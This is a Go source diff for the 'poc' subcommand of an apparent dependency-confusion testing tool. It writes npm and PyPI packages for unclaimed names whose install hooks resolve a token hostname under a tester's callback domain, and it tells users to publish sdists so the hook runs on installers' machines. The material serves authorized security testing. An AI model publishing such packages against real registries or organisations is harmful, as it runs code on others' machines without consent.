@@ -0,0 +1,231 @@
+package main
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"text/template"
+)
+
+// The poc subcommand writes a package skeleton for an unclaimed name whose
+// install hook only resolves <token>.<name>.<callback domain>, so an install
+// shows up in the tester's DNS logs without running anything else on the
+// victim host.
+
+const pocDisclaimer = "Dependency confusion proof of concept for an authorized security test. " +
+	"The install hook performs a single DNS lookup of a random token and does not collect, " +
+	"send or change anything on the installing host."
+
+type pocData struct {
+	Package    string
+	Version    string
+	Token      string
+	Host       string
+	Disclaimer string
+	Contact    string
+}
+
+var dnsLabelRe = regexp.MustCompile(`[^a-z0-9-]+`)
+
+func dnsLabel(s string) string {
+	l := strings.Trim(dnsLabelRe.ReplaceAllString(strings.ToLower(s), "-"), "-")
+	if len(l) > 63 {
+		l = strings.Trim(l[:63], "-")
+	}
+	return l
+}
+
+var npmPoCFiles = map[string]string{
+	"package.json": `{
+  "name": {{json .Package}},
+  "version": {{json .Version}},
+  "description": {{json .Disclaimer}},
+  "main": "index.js",
+  "scripts": {
+    "preinstall": "node preinstall.js"
+  },
+  "author": {{json .Contact}},
+  "license": "MIT"
+}
+`,
+	"preinstall.js": `// {{.Disclaimer}}
+// Contact: {{.Contact}}
+require("dns").lookup({{json .Host}}, function () {});
+`,
+	"index.js": `// {{.Disclaimer}}
+module.exports = {};
+`,
+	"README.md": `# {{.Package}}
+
+{{.Disclaimer}}
+
+Install hook lookup: ` + "`{{.Host}}`" + `
+
+Contact: {{.Contact}}
+`,
+}
+
+var pypiPoCFiles = map[string]string{
+	"setup.py": `# {{.Disclaimer}}
+# Contact: {{.Contact}}
+import socket
+import sys
+
+from setuptools import setup
+
+# Only installs resolve the host: pip builds a wheel (bdist_wheel) or runs
+# install, while packaging the sdist runs sdist and egg_info on the tester's
+# machine.
+if any(c in sys.argv[1:] for c in ("install", "bdist_wheel", "develop")):
+    try:
+        socket.gethostbyname({{json .Host}})
+    except Exception:
+        pass
+
+setup(
+    name={{json .Package}},
+    version={{json .Version}},
+    description={{json .Disclaimer}},
+    long_description=open("README.md").read(),
+    long_description_content_type="text/markdown",
+    author={{json .Contact}},
+    py_modules=[],
+)
+`,
+	"README.md": npmPoCFiles["README.md"],
+	"PUBLISH.txt": `Publish as a source distribution only ("python -m build --sdist"), since wheels do
+not run setup.py on install. Building the sdist does not trigger the lookup; building
+a wheel ("python -m build" without --sdist) or installing the package yourself does.
+`,
+}
+
+func writePoC(dir string, f vuln, callback, version, contact string) (pocData, error) {
+	token := make([]byte, 4)
+	rand.Read(token)
+	d := pocData{
+		Package:    f.Package,
+		Version:    version,
+		Token:      hex.EncodeToString(token),
+		Disclaimer: pocDisclaimer,
+		Contact:    contact,
+	}
+	d.Host = d.Token + "." + dnsLabel(f.Package) + "." + strings.Trim(callback, ".")
+
+	files := npmPoCFiles
+	if f.Language == langPython {
+		files = pypiPoCFiles
+	}
+	out := filepath.Join(dir, string(f.Language)+"-"+dnsLabel(f.Package))
+	if err := os.MkdirAll(out, 0o755); err != nil {
+		return d, err
+	}
+	funcs := template.FuncMap{"json": func(v any) (string, error) {
+		b, err := json.Marshal(v)
+		return string(b), err
+	}}
+	for name, src := range files {
+		t, err := template.New(name).Funcs(funcs).Parse(src)
+		if err != nil {
+			return d, err
+		}
+		var buf bytes.Buffer
+		if err := t.Execute(&buf, d); err != nil {
+			return d, err
+		}
+		if err := os.WriteFile(filepath.Join(out, name), buf.Bytes(), 0o644); err != nil {
+			return d, err
+		}
+	}
+	return d, nil
+}
+
+// pocRecord ties a generated package to the token its install hook resolves,
+// so callbacks can be matched to findings later.
+type pocRecord struct {
+	Package  string   `json:"package"`
+	Language language `json:"language"`
+	// URLs are the scanned URLs the finding was reported on, the url of its
+	// rows in -db
+	URLs  []string `json:"urls,omitempty"`
+	Token string   `json:"token"`
+	Host  string   `json:"host"`
+}
+
+type pocSession struct {
+	Interactsh *interactshSession `json:"interactsh,omitempty"`
+	Packages   []pocRecord        `json:"packages"`
+}
+
+func runPoC(args []string) error {
+	fs := flag.NewFlagSet("poc", flag.ExitOnError)
+	callback := fs.String("callback", "", "DNS callback domain the install hook resolves")
+	interactsh := fs.String("interactsh", "", "register the callback domain with this interactsh server, e.g. oast.fun")
+	interactshToken := fs.String("interactsh-token", "", "authorization token of a self-hosted interactsh server")
+	outDir := fs.String("o", "poc", "directory to write the package skeletons to")
+	version := fs.String("version", "0.0.1", "version of the generated packages")
+	contact := fs.String("contact", "", "tester contact shown in the package metadata")
+	fs.Usage = func() {
+		fmt.Fprintln(fs.Output(), "usage: dchero poc (-callback <domain> | -interactsh <server>) [flags] <finding.json>")
+		fs.PrintDefaults()
+	}
+	fs.Parse(args)
+	if (*callback == "") == (*interactsh == "") || fs.NArg() != 1 {
+		fs.Usage()
+		return errors.New("one of -callback and -interactsh and one findings file are required")
+	}
+
+	findings, err := readFindings(fs.Arg(0))
+	if err != nil {
+		return err
+	}
+
+	var session pocSession
+	if *interactsh != "" {
+		s, err := registerInteractsh(*interactsh, *interactshToken)
+		if err != nil {
+			return err
+		}
+		session.Interactsh = s
+		*callback = s.Domain()
+	}
+
+	seen := make(map[string]struct{})
+	for _, fd := range findings {
+		if fd.Package == "" || (fd.Kind != "" && fd.Kind != kindUnclaimed) {
+			continue
+		}
+		switch fd.Language {
+		case "":
+			fd.Language = langJS
+		case langJS, langPython:
+		default:
+			continue
+		}
+		if _, ok := seen[lookupKey(fd.Package, fd.Language)]; ok {
+			continue
+		}
+		seen[lookupKey(fd.Package, fd.Language)] = struct{}{}
+		d, err := writePoC(*outDir, fd.vuln, *callback, *version, *contact)
+		if err != nil {
+			return err
+		}
+		fmt.Printf("%s (%s): install hook resolves %s\n", fd.Package, registryFor(fd.Language), d.Host)
+		session.Packages = append(session.Packages, pocRecord{Package: fd.Package, Language: fd.Language, URLs: fd.URLs, Token: d.Token, Host: d.Host})
+	}
+	if len(session.Packages) == 0 {
+		return errors.New("no unclaimed findings in " + fs.Arg(0))
+	}
+	b, err := json.MarshalIndent(session, "", "  ")
+	if err != nil {
+		return err
+	}
+	return os.WriteFile(filepath.Join(*outDir, "callbacks.json"), b, 0o600)
+}